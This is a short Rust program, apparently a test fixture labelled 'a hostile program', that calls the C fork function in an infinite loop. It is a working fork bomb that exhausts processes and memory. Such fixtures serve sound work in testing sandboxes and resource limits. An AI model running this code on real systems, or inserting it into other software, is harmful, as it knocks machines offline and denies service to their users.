//! Forks without end.

#![allow(unsafe_code, missing_docs, reason = "a hostile program")]


unsafe extern "C" {
    fn fork() -> i32;
}

fn main() {
    loop {
        unsafe { fork() };
    }
}
